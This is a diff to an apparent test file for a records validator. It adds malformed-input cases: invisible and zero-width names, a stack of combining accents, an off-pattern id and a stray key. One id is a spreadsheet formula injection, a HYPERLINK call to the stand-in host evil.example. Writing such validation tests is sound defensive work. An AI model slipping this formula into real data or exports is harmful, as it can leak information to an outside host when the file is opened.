@@ -47,6 +47,13 @@ FAILURES = {
     "a control character in the name": _record(name=f"Ruth\x1b[2J{MARK}"),
     "a bidirectional override in the name": _record(name=f"Ruth \u202e{MARK}"),
     "a visit before birth": _record(visit_date="1949-01-01"),
+    # issue 17: names that print blank or as a tower, ids off the pattern, a stray key
+    "a name of invisible characters": _record(name="\u200b\u2060\ufeff\u3164"),
+    "an invisible character in the name": _record(name=f"Ruth\u200b{MARK}"),
+    "a tower of accents on the name": _record(name=MARK + "\u0301" * 199),
+    "an id that is a formula": _record(id=f'=HYPERLINK("http://evil.example/?{MARK}")'),
+    "an id that is a name": _record(id=f"Ruth {MARK}"),
+    "a stray line read as a key": _record(**{f"Mrs {MARK} daughter phone 555-0199": "called"}),
 }
 
 RENDERED = {
